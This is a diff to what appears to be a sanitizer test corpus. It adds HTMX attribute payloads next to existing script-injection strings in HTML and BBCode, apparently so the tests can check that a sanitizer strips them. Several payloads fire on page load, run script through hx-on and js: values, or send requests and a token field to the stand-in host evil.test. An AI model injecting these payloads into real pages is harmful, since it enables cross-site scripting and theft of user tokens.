@@ -106,4 +106,13 @@ BBCODE = (
     "[b]<script>alert(1)</script>[/b]",
     "[url=[url=javascript:alert(1)]x[/url]]y[/url]",
 )
-CORPUS = (*HTML, *MARKDOWN, *TEXTILE, *BBCODE)
+HTMX = (
+    '<a hx-get="https://evil.test/" hx-trigger="load">x</a>',
+    '<div data-hx-post="/acts?evil" data-hx-trigger="load">x</div>',
+    "<div hx-on:load='alert(1)'>x</div>",
+    '<span hx-ext="sse" sse-connect="https://evil.test/">x</span>',
+    '<p id="main" hx-swap-oob="true" hx-vals="js:{a: alert(1)}">x</p>',
+    '<form hx-post="/acts" hx-target="body" action="//evil.test"><input name="token"></form>',
+)
+"""What the page's own script would take for an order."""
+CORPUS = (*HTML, *HTMX, *MARKDOWN, *TEXTILE, *BBCODE)
